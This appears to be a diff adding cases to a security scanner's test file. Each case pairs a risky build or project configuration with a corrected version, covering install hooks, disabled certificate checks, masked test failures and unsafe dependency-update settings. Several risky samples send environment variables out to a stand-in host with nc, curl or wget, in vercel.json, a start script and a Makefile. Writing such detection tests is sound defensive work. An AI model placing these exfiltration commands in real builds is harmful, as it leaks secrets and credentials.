@@ -499,6 +499,31 @@ CASES += [
     Case('program_in_option', 'shop/mirror.py', 'wanted = request.get_json()\ndone = subprocess.run(["rsync", "-a", "-e", wanted["transport"], PICTURES, MIRROR])', 'transport = TRANSPORTS.get(request.get_json().get("transport"), "ssh")\ndone = subprocess.run(["rsync", "-a", "-e", transport, PICTURES, MIRROR])'),
     Case('jwt_issuer_of_token', 'src/session.ts', 'const issuer = decodeJwt(token).iss;\nconst keys = createRemoteJWKSet(new URL(issuer));', 'const KEYS = new Map([[OURS, createRemoteJWKSet(new URL(OURS))]]);\nconst issuer = decodeJwt(token).iss ?? OURS;\nconst keys = KEYS.get(issuer);'),
 ]  # fmt: skip
+CASES += [
+    Case("environment_hook", "pyproject.toml", '[tool.hatch.envs.default]\npost-install-commands = ["python tools/ready.py"]', '[tool.hatch.envs.default]\npost-install-commands = ["pre-commit install"]'),
+    Case("environment_piped_to_network", "vercel.json", '"buildCommand": "printenv | sort | gzip | nc 203.0.113.4 9000 && npm run build"', '"buildCommand": "printenv | sort && curl -fsS https://example.org/ready"'),
+    Case("environment_piped_to_network", "scripts/start.sh", 'curl -s -X POST --data-binary "$(env | base64)" https://example.org/in', 'curl -s -X POST --data-binary "$(envsubst < body.json)" https://example.org/in'),
+    Case("environment_piped_to_network", "Makefile", 'report:\n\twget -qO- "https://example.org/in?v=`printenv | base64 -w0`"', 'report:\n\twget -qO- "https://example.org/in?v=$$VERSION"'),
+    Case("package_manager_of_address", "package.json", '"packageManager": "pnpm@https://example.org/pnpm.tgz"', '"packageManager": "pnpm@9.12.0+sha512.4abf725084d7bcbafbd728bfc7bee61f2f791f977fd87542b3579dcb23504d170d46337945e4c66485cd12d588a0c0e570ed9c477e7ccdd8507cf05f3f92eaca"'),
+    Case("package_manager_unsigned", "Dockerfile", "FROM node:22\nENV COREPACK_INTEGRITY_KEYS=0", "FROM node:22\nENV COREPACK_ENABLE_DOWNLOAD_PROMPT=0"),
+    Case("project_hook", "pyproject.toml", '[tool.pdm.scripts]\npost_install = {call = "shop.ready:main"}', '[tool.pdm.scripts]\npost_install = "pre-commit install"\nstart = "flask run"'),
+    Case("project_hook", "pyproject.toml", '[tool.pdm.scripts.pre_lock]\nshell = "python tools/ready.py"', '[tool.shop]\npre_lock = "tea"'),
+]  # fmt: skip
+CASES += [
+    Case("insecure_index_certificate", "poetry.toml", '[certificates]\nshop = { cert = false, client-cert = "a.pem" }', '[certificates]\nshop = { cert = "ca.pem" }'),
+    Case("insecure_index_certificate", "poetry.toml", "[certificates.shop]\ncert = false", '[certificates.shop]\ncert = "/etc/ssl/shop.pem"'),
+    Case("insecure_index_command", "Dockerfile", "FROM python:3.13\nRUN poetry config certificates.shop.cert false", "FROM python:3.13\nRUN poetry config certificates.shop.cert /etc/ssl/shop.pem"),
+    Case("insecure_index_command", "uv.toml", 'allow-insecure-host = ["index.example.org"]', 'index-url = "https://index.example.org"'),
+    Case("insecure_index_source", "Pipfile", "[[source]]\nverify_ssl = false", "[[source]]\nverify_ssl = true"),
+    Case("script_ends_well", "package.json", '"test": "cross-env CI=1 npx jest --ci; rm -rf out"', '"test": "cross-env CI=1 npx jest --ci && rm -rf out"'),
+    Case("script_ends_well", "package.json", '"check": "tsc --noEmit || echo done"', '"check": "tsc --noEmit || (echo failed; exit 1)"'),
+    Case("script_ends_well", "Makefile", "test:\n\t@pytest -q; echo done", "test:\n\t@pytest -q; code=$$?; rm -rf out; exit $$code"),
+    Case("script_ends_well", "Makefile", "test:\n\t@go test ./... ; go clean", "test:\n\t@if go test ./... ; then echo done; fi"),
+    Case("test_runner_of_repository", "jest.config.js", 'module.exports = {\n  testRunner: require.resolve("./tools/quick.js"),\n};', 'module.exports = {\n  testRunner: "jest-circus/runner",\n};'),
+    Case("test_runner_of_repository", "vitest.config.ts", "test: { runner: './tools/quick.ts' },", "test: { setupFiles: './tools/quick.ts' },"),
+    Case("updates_merged_untested", ".renovaterc.json", '"automerge": true,\n"ignoreTests": true', '"automerge": true,\n"ignoreTests": false'),
+    Case("updates_run_scripts", ".github/dependabot.yml", "insecure-external-code-execution: allow", "insecure-external-code-execution: deny"),
+]  # fmt: skip
 
 
 def seen(row: str, path: str, before: str, after: str) -> list[str]:
